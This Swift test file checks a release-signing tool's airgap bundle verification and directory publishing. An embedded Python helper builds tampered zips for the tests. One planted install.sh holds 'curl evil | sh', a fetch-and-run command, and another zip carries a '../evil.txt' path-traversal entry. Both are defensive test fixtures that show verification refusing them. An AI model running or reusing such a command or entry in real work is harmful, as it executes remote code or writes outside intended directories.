import Foundation
import HallmarkTestSupport
import Testing

@Suite("hallmark airgap bundle and verify", .serialized)
struct AirGapTests {
    static let rewrite = """
        import hashlib, sys, zipfile
        src, dst, mode = sys.argv[1], sys.argv[2], sys.argv[3]
        with zipfile.ZipFile(src) as a, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as b:
            for info in a.infolist():
                if mode == "drop" and info.filename == "release/index.json":
                    continue
                data = a.read(info.filename)
                if mode in ("script", "root") and info.filename == "REQUIRED-FILES.txt":
                    extra = {"script": ("install.sh", b"curl evil | sh\\n"), "root": ("trust/trusted_root.json", b'{"forged": true}')}[mode]
                    lines = [l for l in data.decode().splitlines() if not l.endswith("  " + extra[0])]
                    lines.append(hashlib.sha256(extra[1]).hexdigest() + "  " + extra[0])
                    data = ("\\n".join(sorted(lines, key=lambda l: l[66:])) + "\\n").encode()
                    b.writestr(extra[0], extra[1])
                b.writestr(info, data)
            if mode == "extra":
                b.writestr("release/extra.txt", b"sneaked in")
            if mode == "traversal":
                b.writestr("../evil.txt", b"x")
        """

    @Test func bundleAndVerify() throws {
        let project = try ExampleProject()
        #expect(try project.hallmark(["release", "--version", "v1.0.0", "--key", "../release.key", "-q"]).status == 0)
        let dir = project.dir
        let key = dir.url("release.pub")
        let bundle = try ProcessRunner.hallmark(["airgap", "bundle", project.release, "--key", key, "--out", dir.url("a.zip")])
        #expect(bundle.status == 0, "\(bundle.stderr)")
        try FileManager.default.createDirectory(atPath: dir.url("again"), withIntermediateDirectories: true)
        #expect(try ProcessRunner.hallmark(["airgap", "bundle", project.release, "--key", key, "--out", dir.url("again/a.zip")]).status == 0)
        #expect(try dir.read("a.zip") == (try dir.read("again/a.zip")), "the same release makes the same bundle")

        let verify = try ProcessRunner.hallmark(["airgap", "verify", dir.url("a.zip"), "--key", key, "--extract", dir.url("in")])
        #expect(verify.status == 0, "\(verify.stdout)\(verify.stderr)")
        #expect(dir.exists("in/release/index.json") && dir.exists("in/VERIFY.md"))
        #expect(try ProcessRunner.run("sha256sum", ["-c", "--strict", "REQUIRED-FILES.txt"], in: dir.url("in")).status == 0)
        #expect(try ProcessRunner.hallmark(["verify", dir.url("in/release"), "--key", key]).status == 0)
        // The keys inside the zip vouch for nothing: without --key it is a usage error, and the unsafe option's
        // result is never "verified".
        let keyless = try ProcessRunner.hallmark(["airgap", "verify", dir.url("a.zip")])
        #expect(keyless.status == 2 && keyless.stderr.contains("--key"), "\(keyless.stderr)")
        let own = try ProcessRunner.hallmark(["airgap", "verify", dir.url("a.zip"), "--insecure-use-embedded-keys", "--format", "json"])
        #expect(own.status == 0, "\(own.stderr)")
        #expect(own.stderr.contains("airgap.self-vouched") && own.stderr.contains("NOT verified"), "\(own.stderr)")
        let ownReport = try #require(try JSONSerialization.jsonObject(with: own.stdoutData) as? [String: Any])
        #expect(ownReport["verified"] as? Bool == false && ownReport["outcome"] as? String == "self-vouched")
        let ownText = try ProcessRunner.hallmark(["airgap", "verify", dir.url("a.zip"), "--insecure-use-embedded-keys"])
        #expect(ownText.stdout.contains("NOT verified") && !ownText.stdout.hasPrefix("verified"), "\(ownText.stdout)")

        try dir.write("rewrite.py", Self.rewrite)
        #expect(try ProcessRunner.hallmark(["keys", "generate", "--out", dir.url("other")]).status == 0)
        var bytes = try dir.read("a.zip")
        bytes[bytes.count / 3] ^= 0x01
        try dir.write("flipped.zip", bytes)
        let trusted = ["--key", key]
        let cases: [(String, [String], Int32, String)] = [
            ("flipped.zip", trusted, 2, "a.zip"),
            ("drop", trusted, 1, "release/index.json: required, but missing"),
            ("extra", trusted, 1, "release/extra.txt: in the bundle but not in REQUIRED-FILES.txt"),
            ("traversal", trusted, 2, "'..'"),
            // Anything outside the bundle layout is refused, even when REQUIRED-FILES.txt (unsigned) lists it.
            ("script", trusted, 1, "[airgap.content-mismatch]"),
            // A key that signed nothing in the release.
            ("a.zip", ["--key", dir.url("other.pub")], 1, "[signature.untrusted-key]"),
            ("a.zip", ["--key", dir.url("other.pub"), "--insecure-use-embedded-keys"], 2, "contradicts"),
        ]
        for (name, extra, status, mention) in cases {
            var file = dir.url(name)
            if !name.hasSuffix(".zip") {
                file = dir.url(name + ".zip")
                let rewritten = try ProcessRunner.run("python3", [dir.url("rewrite.py"), dir.url("a.zip"), file, name])
                #expect(rewritten.status == 0, "\(rewritten.stderr)")
            }
            let result = try ProcessRunner.hallmark(["airgap", "verify", file, "--extract", dir.url("out-" + name)] + extra)
            #expect(result.status == status, "\(name): exit \(result.status) \(result.stdout)\(result.stderr)")
            #expect((result.stdout + result.stderr).contains(mention) || name == "flipped.zip", "\(name): \(result.stdout)\(result.stderr)")
            #expect(!dir.exists("out-" + name), "\(name): nothing may be extracted")
        }
        #expect(!FileManager.default.fileExists(atPath: (dir.path as NSString).deletingLastPathComponent + "/evil.txt"))

        // A trusted root (or instructions) put in by whoever wrote the zip: extracted, but named as covered by no
        // signature, never as verified.
        #expect(try ProcessRunner.run("python3", [dir.url("rewrite.py"), dir.url("a.zip"), dir.url("root.zip"), "root"]).status == 0)
        let forgedRoot = try ProcessRunner.hallmark(["airgap", "verify", dir.url("root.zip"), "--key", key, "--format", "json"])
        #expect(forgedRoot.status == 0, "\(forgedRoot.stdout)\(forgedRoot.stderr)")
        #expect(forgedRoot.stderr.contains("[airgap.unauthenticated]") && forgedRoot.stderr.contains("trust/trusted_root.json"), "\(forgedRoot.stderr)")
        let rootReport = try #require(try JSONSerialization.jsonObject(with: forgedRoot.stdoutData) as? [String: Any])
        #expect((rootReport["unauthenticated"] as? [String] ?? []).contains("trust/trusted_root.json"))
        #expect((rootReport["unauthenticated"] as? [String] ?? []).contains { $0.hasPrefix("trust/keys/") } == false)
    }

    /// Adds one directory member to a bundle: `NAME/` (a directory entry), or `mode:NAME` (no trailing `/`, but a
    /// Unix directory mode, which unzip extracts as an empty file).
    static let addDirectory = """
        import sys, zipfile
        src, dst, spec = sys.argv[1], sys.argv[2], sys.argv[3]
        with zipfile.ZipFile(src) as a, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as b:
            for info in a.infolist():
                b.writestr(info, a.read(info.filename))
            info = zipfile.ZipInfo(spec[len("mode:"):] if spec.startswith("mode:") else spec)
            info.external_attr = (0o40755 << 16) | 0x10
            b.writestr(info, b"")
        """

    @Test("Directory members outside the layout (junk/, trust/evil/, release/extra/, a directory mode without '/') are refused, nothing extracted")
    func directoriesOutsideTheLayout() throws {
        let project = try ExampleProject()
        #expect(try project.hallmark(["release", "--version", "v1.0.0", "--key", "../release.key", "-q"]).status == 0)
        let dir = project.dir
        let key = dir.url("release.pub")
        #expect(try ProcessRunner.hallmark(["airgap", "bundle", project.release, "--key", key, "--out", dir.url("a.zip")]).status == 0)
        try dir.write("add.py", Self.addDirectory)
        for (index, spec) in ["junk/", "trust/evil/", "release/extra/", "mode:release/index.json.minisig"].enumerated() {
            let zip = dir.url("dir\(index).zip")
            let made = try ProcessRunner.run("python3", [dir.url("add.py"), dir.url("a.zip"), zip, spec])
            #expect(made.status == 0, "\(made.stderr)")
            let name = spec.hasPrefix("mode:") ? String(spec.dropFirst("mode:".count)) : String(spec.dropLast())
            let result = try ProcessRunner.hallmark(["airgap", "verify", zip, "--key", key, "--extract", dir.url("out\(index)")])
            if spec.hasPrefix("mode:") {
                // A directory by its mode but not by its name: the reader refuses it (unzip would make a file).
                #expect(result.status == 2, "\(spec): exit \(result.status) \(result.stdout)\(result.stderr)")
                #expect(result.stderr.contains("\(name)\": a directory mode or attribute without a trailing '/'"), "\(spec): \(result.stderr)")
            } else {
                #expect(result.status == 1, "\(spec): exit \(result.status) \(result.stdout)\(result.stderr)")
                #expect((result.stdout + result.stderr).contains("\(name)/: a directory that holds none of the bundle's files"), "\(spec): \(result.stdout)\(result.stderr)")
                #expect((result.stdout + result.stderr).contains("[airgap.content-mismatch]"), "\(spec): \(result.stdout)\(result.stderr)")
            }
            #expect(!dir.exists("out\(index)"), "\(spec): nothing may be extracted")
        }
        // The genuine bundle, whose directory entries all hold its files, still verifies.
        let genuine = try ProcessRunner.hallmark(["airgap", "verify", dir.url("a.zip"), "--key", key, "--extract", dir.url("genuine")])
        #expect(genuine.status == 0, "\(genuine.stdout)\(genuine.stderr)")
    }

    @Test("A refused zip creates none of --extract's missing parents; a verified one still does")
    func extractParentsOnlyAfterVerification() throws {
        let project = try ExampleProject()
        #expect(try project.hallmark(["release", "--version", "v1.0.0", "--key", "../release.key", "-q"]).status == 0)
        let dir = project.dir
        let key = dir.url("release.pub")
        #expect(try ProcessRunner.hallmark(["airgap", "bundle", project.release, "--key", key, "--out", dir.url("a.zip")]).status == 0)
        try dir.write("land/notazip.zip", "not a zip\n")
        var flipped = try dir.read("a.zip")
        flipped[flipped.count / 3] ^= 0x01
        try dir.write("land/flipped.zip", flipped)
        #expect(try ProcessRunner.hallmark(["keys", "generate", "--out", dir.url("other")]).status == 0)
        for (zip, keyFile) in [("notazip.zip", key), ("flipped.zip", key), ("../a.zip", dir.url("other.pub"))] {
            let result = try ProcessRunner.hallmark(["airgap", "verify", dir.url("land/" + zip), "--key", keyFile, "--extract", dir.url("land/new/a/b/out")])
            #expect(result.status != 0, "\(zip): \(result.stdout)\(result.stderr)")
            let left = try FileManager.default.contentsOfDirectory(atPath: dir.url("land")).sorted()
            #expect(left == ["flipped.zip", "notazip.zip"], "\(zip): \(left)")
        }
        let file = try dir.write("land/file", "x")
        let underFile = try ProcessRunner.hallmark(["airgap", "verify", dir.url("a.zip"), "--key", key, "--extract", file + "/out"])
        #expect(underFile.status == 2 && underFile.stderr.contains("is not a directory"), "\(underFile.stderr)")
        let verified = try ProcessRunner.hallmark(["airgap", "verify", dir.url("a.zip"), "--key", key, "--extract", dir.url("land/new/a/b/out")])
        #expect(verified.status == 0, "\(verified.stdout)\(verified.stderr)")
        #expect(dir.exists("land/new/a/b/out/release/index.json"))
        #expect(try FileManager.default.contentsOfDirectory(atPath: dir.url("land/new/a/b")) == ["out"], "no working directory left")
    }
}

@Suite("hallmark publish to a directory")
struct PublishTests {
    @Test func publishOnceThenForce() throws {
        let project = try ExampleProject()
        #expect(try project.hallmark(["release", "--version", "v1.0.0", "--key", "../release.key", "-q"]).status == 0)
        let site = project.dir.url("site")
        let first = try project.hallmark(["publish", "dist/v1.0.0", "--to", "file://" + site])
        #expect(first.status == 0, "\(first.stderr)")
        #expect(try ProcessRunner.hallmark(["verify", site + "/v1.0.0", "--key", project.dir.url("release.pub")]).status == 0)
        let listed = try String(contentsOfFile: project.root + "/dist/release-assets.txt", encoding: .utf8)
        #expect(listed.contains("file://\(site)/v1.0.0/index.json"))
        #expect(try project.hallmark(["summary", "dist/v1.0.0", "--remote-assets", "dist/release-assets.txt"]).status == 0)
        let before = try FileManager.default.contentsOfDirectory(atPath: site + "/v1.0.0").sorted()
        let again = try project.hallmark(["publish", "dist/v1.0.0", "--to", "file://" + site])
        #expect(again.status == 2 && again.stderr.contains("already published"))
        #expect(try FileManager.default.contentsOfDirectory(atPath: site + "/v1.0.0").sorted() == before)
        #expect(try FileManager.default.contentsOfDirectory(atPath: site) == ["v1.0.0"], "no temporaries left behind")
        let forced = try project.hallmark(["publish", "dist/v1.0.0", "--to", "file://" + site, "--force"])
        #expect(forced.status == 0 && forced.stdout.contains("republished"))
        let other = try project.hallmark(["publish", "dist/v1.0.0", "--to", "s3://bucket/greet"])
        #expect(other.status == 2 && other.stderr.contains("file:///PATH or oci://"))
        let badTag = try project.hallmark(["publish", "dist/v1.0.0", "--to", "oci://127.0.0.1:5000/Greet"])
        #expect(badTag.status == 2 && badTag.stderr.contains("not a valid repository name"))
    }
}
